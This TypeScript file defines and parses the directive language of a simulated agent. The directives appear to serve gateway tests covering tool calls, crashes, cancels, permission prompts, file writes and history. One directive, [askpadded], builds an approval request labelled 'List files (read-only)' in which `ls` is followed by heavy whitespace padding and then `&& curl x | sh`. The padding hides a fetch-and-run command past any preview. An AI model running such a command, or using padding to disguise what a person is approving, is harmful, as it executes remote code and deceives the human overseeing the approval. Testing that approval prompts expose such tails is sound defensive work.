/**
 * The simulated agent's script language: bracketed directives in the prompt, run in order.
 *
 *   [sleep MS]        wait MS milliseconds (a cancel interrupts it)
 *   [deltas N]        stream N text deltas
 *   [tool BYTES]      call a tool whose result is BYTES bytes long
 *   [logtool BYTES]   like [tool], with BYTES of deterministic log-like text that compresses like real
 *                     command output (for wire measurements; `x` repeated compresses unrealistically well)
 *   [tokens N]        report N input tokens for the model call
 *   [clock]           stream one text delta carrying the agent's wall clock, `clock <ms since epoch>`
 *                     with sub-millisecond digits (benchmarks time agent event → subscriber with it)
 *   [fail CODE]       fail the turn with CODE (AGENT_ERROR, CONTEXT_TOO_LARGE, AGENT_START_FAILED, ...)
 *   [crash]           the agent process dies mid-turn (AGENT_CRASHED)
 *   [hang]            never finish; only a cancel or the deadline ends the turn
 *   [stubborn]        like hang, and ignore cancel too, so the gateway has to kill it
 *   [ask NAME]        ask permission to run the tool NAME (interactive approvals, docs/agents.md):
 *                     options `allow` (allow_once), `allow_always` (allow_always), `deny`
 *                     (reject_once). Allowed: the tool call and its result, and the text
 *                     `allowed NAME`; refused: the text `denied NAME` and the answer's message
 *                     after `: `. A client's `answers` are echoed as `answers <JSON>`.
 *   [input]           wait for the next steered input (`POST /v1/tasks/:id/input`); a cancel or the
 *                     deadline ends the wait. Every steered input the agent takes, whether awaited
 *                     or not, is echoed once as the text `steered TEXT ` at the next directive
 *                     boundary (or before the turn's final message)
 *   [askpadded N]     like [ask bash], titled "List files (read-only)", for the command `ls` padded
 *                     with N spaces before `&& curl x | sh` (a request whose input hides its tail
 *                     past any preview; N at most 1 MiB)
 *   [write PATH N]    write the file PATH (relative to the workspace, made with its folders) with N
 *                     lines `line 1` .. `line N`, replacing what it held
 *   [append PATH N]   add N lines `added 1` .. `added N` at the end of PATH (made when missing)
 *   [writebin PATH N] write N bytes of binary content (NUL bytes included) to PATH
 *   [delete PATH]     remove the file PATH (nothing when it is missing)
 *                     PATH is letters, digits and `_ . / -`; one that leaves the workspace (`..`, an
 *                     absolute path, a symlinked folder pointing out) fails the turn (AGENT_ERROR).
 *                     N is at most 10,000 lines or 1 MiB.
 *   [history]         answer `history: <JSON list>` of what this agent conversation held before
 *                     the prompt: each earlier prompt, or `recap: <text>` for a carried history
 *                     (fork and rollback, docs/api.md); `history: unknown` when this process never
 *                     saw the conversation (another instance ran it)
 *
 * Text outside directives is ignored; a prompt without directives gets one short answer.
 *
 * Bounded, because any client can write a prompt: a count (deltas) is at most 10,000 and a size
 * (tool, logtool) at most 1 MiB per directive, and a turn emits at most 20,000 events and 16 MiB of
 * tool output in all; what a directive asks beyond that is cut (the turn still completes). One
 * `[deltas 100000000]` used to emit 100 M events in a synchronous loop and run the process out of
 * heap, and `[deltas 300000]` held its event lane for minutes.
 */
export type Directive =
  | { kind: "sleep"; ms: number }
  | { kind: "deltas"; count: number }
  | { kind: "tool"; bytes: number }
  | { kind: "logtool"; bytes: number }
  | { kind: "tokens"; count: number }
  | { kind: "clock" }
  | { kind: "fail"; code: string }
  | { kind: "crash" }
  | { kind: "hang" }
  | { kind: "stubborn" }
  | { kind: "ask"; name: string }
  | { kind: "askpadded"; spaces: number }
  | { kind: "input" }
  | { kind: "write" | "append" | "writebin"; path: string; count: number }
  | { kind: "delete"; path: string }
  /** Reply with what the agent's conversation holds before this prompt (fork and rollback tests). */
  | { kind: "history" };

const pattern =
  /\[(sleep|deltas|tool|logtool|tokens|clock|fail|crash|hang|stubborn|askpadded|ask|input|history)(?:\s+([A-Za-z0-9_]+))?\]|\[(write|append|writebin|delete)\s+([A-Za-z0-9_./-]{1,200})(?:\s+(\d{1,9}))?\]/g;

const MAX_NUMBER = 100_000_000;

/** Caps of the directives (see above); `driver.ts` enforces the per-turn totals. */
export const simulatedLimits = {
  /** Deltas one directive may ask for. */
  maxCount: 10_000,
  /** Bytes of tool output one directive may ask for. */
  maxBytes: 1024 * 1024,
  /** Events one turn may emit. */
  maxTurnEvents: 20_000,
  /** Bytes of tool output one turn may emit. */
  maxTurnBytes: 16 * 1024 * 1024,
} as const;

export function parseDirectives(prompt: string): Directive[] {
  const directives: Directive[] = [];
  for (const match of prompt.matchAll(pattern)) {
    const [, word, arg, fileKind, path, size] = match;
    if (fileKind && path) {
      const n = Math.max(Number.parseInt(size ?? "0", 10) || 0, 0);
      if (fileKind === "delete") directives.push({ kind: "delete", path });
      else
        directives.push({
          kind: fileKind as "write" | "append" | "writebin",
          path,
          count: Math.min(n, fileKind === "writebin" ? simulatedLimits.maxBytes : simulatedLimits.maxCount),
        });
      continue;
    }
    const kind = word;
    const n = Math.min(Math.max(Number.parseInt(arg ?? "0", 10) || 0, 0), MAX_NUMBER);
    switch (kind) {
      case "sleep":
        directives.push({ kind, ms: n });
        break;
      case "deltas":
        directives.push({ kind, count: Math.min(n, simulatedLimits.maxCount) });
        break;
      case "tool":
      case "logtool":
        directives.push({ kind, bytes: Math.min(n, simulatedLimits.maxBytes) });
        break;
      case "tokens":
        directives.push({ kind, count: n });
        break;
      case "fail":
        directives.push({ kind, code: arg ?? "AGENT_ERROR" });
        break;
      case "ask":
        directives.push({ kind, name: arg ?? "tool" });
        break;
      case "askpadded":
        directives.push({ kind, spaces: Math.min(n, simulatedLimits.maxBytes) });
        break;
      default:
        directives.push({ kind: kind as "clock" | "crash" | "hang" | "stubborn" | "input" | "history" });
    }
  }
  return directives;
}
